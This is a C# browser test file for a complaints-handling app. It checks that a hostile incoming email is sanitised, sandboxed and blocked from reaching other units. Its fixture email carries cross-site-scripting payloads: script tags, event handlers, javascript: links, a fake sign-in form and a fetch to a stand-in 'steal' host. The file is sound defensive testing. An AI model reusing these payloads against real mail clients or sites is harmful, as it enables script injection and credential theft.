using System.Net;
using System.Text;
using Complaints.Casework;
using Complaints.Intake;
using Complaints.Mail;
using Complaints.Tests.World;
using Microsoft.EntityFrameworkCore;
using Microsoft.Playwright;

namespace Complaints.Tests.Browsing;

/// <summary>A mail that tries everything is shown readable and does nothing.</summary>
[Collection(BrowserTests.Name)]
public sealed class HostileMailTests(Chromium chromium)
{
    private const string Picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    [Theory]
    [InChromium("sqlite")]
    public async Task A_mail_with_script_style_form_and_remote_pictures_is_harmless_and_readable(string database)
    {
        await using var house = await TestHouse.OpenAsync(database);
        var id = await ComeInAsync(house);
        var desk = await chromium.PageAsync(house);
        var elsewhere = new List<string>();
        await desk.Context.RouteAsync(
            "**/*",
            async route =>
            {
                if (
                    route.Request.Url.StartsWith(house.Address.ToString(), StringComparison.Ordinal)
                    || route.Request.Url.StartsWith("data:", StringComparison.Ordinal)
                )
                {
                    await route.ContinueAsync();
                    return;
                }

                elsewhere.Add(route.Request.Url);
                await route.FulfillAsync(new() { ContentType = "image/png", BodyBytes = Convert.FromBase64String(Picture) });
            }
        );
        await desk.SignInAsync("Lena");
        await desk.GotoAsync($"/complaints/{Reference.Of(2026, 1)}");
        await desk.ClickAsync($"a[href='/mail/received/{id}']");

        var mail = desk.FrameLocator("iframe.mail-frame");
        await Assertions.Expect(mail.Locator("body")).ToContainTextAsync("The heating is off again");
        await Assertions.Expect(mail.Locator("table td").First).ToContainTextAsync("Room 12");
        Assert.Equal(0, await mail.Locator("script, form, input, button, iframe, object, embed, link, meta[http-equiv], svg").CountAsync());
        Assert.Equal(1, await mail.Locator("img[src^='data:image/png']").CountAsync()); // its own picture, by Content-ID
        Assert.Equal("_blank", await mail.Locator("a", new() { HasText = "see here" }).GetAttributeAsync("target") ?? "_blank");
        Assert.Equal(0, await mail.Locator("a[href^='javascript']").CountAsync());
        await Assertions.Expect(desk.Locator("h1")).ToHaveTextAsync("<b>Heating</b> off"); // its subject is no markup
        Assert.Equal("untouched", await desk.EvaluateAsync<string>("window.owned ?? 'untouched'"));
        Assert.Empty(elsewhere);

        await desk.ClickAsync("a:has-text('Load them')");
        await Assertions.Expect(desk.FrameLocator("iframe.mail-frame").Locator("img[src^='http']").First).ToBeVisibleAsync();
        Assert.Contains(elsewhere, url => url.Contains("pixel.png", StringComparison.Ordinal));
        Assert.DoesNotContain(
            elsewhere,
            url => url.Contains("steal", StringComparison.Ordinal) || url.EndsWith(".css", StringComparison.Ordinal)
        );
    }

    [Theory, OnSqlite]
    public async Task Foreign_messages_are_not_here_and_files_are_downloads(string database)
    {
        await using var house = await TestHouse.OpenAsync(database);
        var id = await ComeInAsync(house);
        using var chen = await house.SignInAsync("Chen"); // of another unit
        foreach (var part in (string[])["", "/body", "/source", "/files/0"])
        {
            await chen.GetAsync($"/mail/received/{id}{part}");
            Assert.Equal(HttpStatusCode.NotFound, chen.Status);
        }

        using var dora = await house.SignInAsync("Dora");
        await dora.GetAsync($"/mail/received/{id}/files/0");
        Assert.Equal("application/octet-stream", dora.Last.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", dora.Last.Content.Headers.ContentDisposition!.DispositionType);
        await dora.GetAsync($"/mail/received/{id}/files/9");
        Assert.Equal(HttpStatusCode.NotFound, dora.Status);
        await dora.GetAsync($"/mail/received/{id}/body");
        var policy = Assert.Single(dora.Last.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("sandbox allow-popups", policy);
        Assert.DoesNotContain("allow-scripts", policy);
        Assert.DoesNotContain("https:", policy);
    }

    private static async Task<long> ComeInAsync(TestHouse house)
    {
        const string Html = """
            <html><head><style>body{display:none} @import url(http://elsewhere.example/a.css);</style><meta http-equiv="refresh" content="0;url=http://elsewhere.example/steal"></head>
            <body onload="parent.owned=1"><script>top.owned = 'yes'; fetch('http://elsewhere.example/steal')</script>
            <p style="color:#a00;background:url(http://elsewhere.example/bg.png)">The heating is off again.</p>
            <table><tr><td>Room 12</td><td><img src="cid:photo" alt="thermometer"></td></tr></table>
            <img src="http://elsewhere.example/pixel.png" width="20" height="20" alt="logo"><img src=x onerror="top.owned='yes'">
            <form action="http://elsewhere.example/steal"><input name="password"><button>Sign in again</button></form>
            <a href="javascript:top.owned=1">click</a> <a href="https://elsewhere.example/page">see here</a>
            <svg onload="top.owned=1"><script>top.owned=1</script></svg><iframe src="http://elsewhere.example/steal"></iframe></body></html>
            """;
        var raw = string.Join(
            "\r\n",
            "From: Nora Berg <nora@home.example>",
            "To: complaints@desk.example",
            "Subject: <b>Heating</b> off",
            "Message-ID: <heating@home.example>",
            "MIME-Version: 1.0",
            "Content-Type: multipart/related; boundary=b",
            "",
            "--b",
            "Content-Type: text/html; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            Convert.ToBase64String(Encoding.UTF8.GetBytes(Html), Base64FormattingOptions.InsertLineBreaks),
            "--b",
            "Content-Type: image/png; name=photo.png",
            "Content-ID: <photo>",
            "Content-Transfer-Encoding: base64",
            "",
            Picture,
            "--b",
            "Content-Type: text/html; name=bill.html",
            "Content-Disposition: attachment; filename=bill.html",
            "",
            "<script>top.owned=1</script>",
            "--b--",
            ""
        );
        var id = await house.AskAsync((InboxStore store) => store.StoreAsync("desk", 1, 1, Encoding.ASCII.GetBytes(raw)));
        await house.AskAsync((InboundRun run) => run.RunAsync());
        await house.WithAsync(
            async (db, _) =>
            {
                var north = await db.Set<Complaints.Staff.Unit>().SingleAsync(u => u.Name == "North");
                var complaint = await db.Complaints.Include(c => c.Unit).SingleAsync();
                await db.Complaints.Where(c => c.Id == complaint.Id).ExecuteUpdateAsync(s => s.SetProperty(c => c.UnitId, north.Id));
            }
        );
        return id;
    }
}
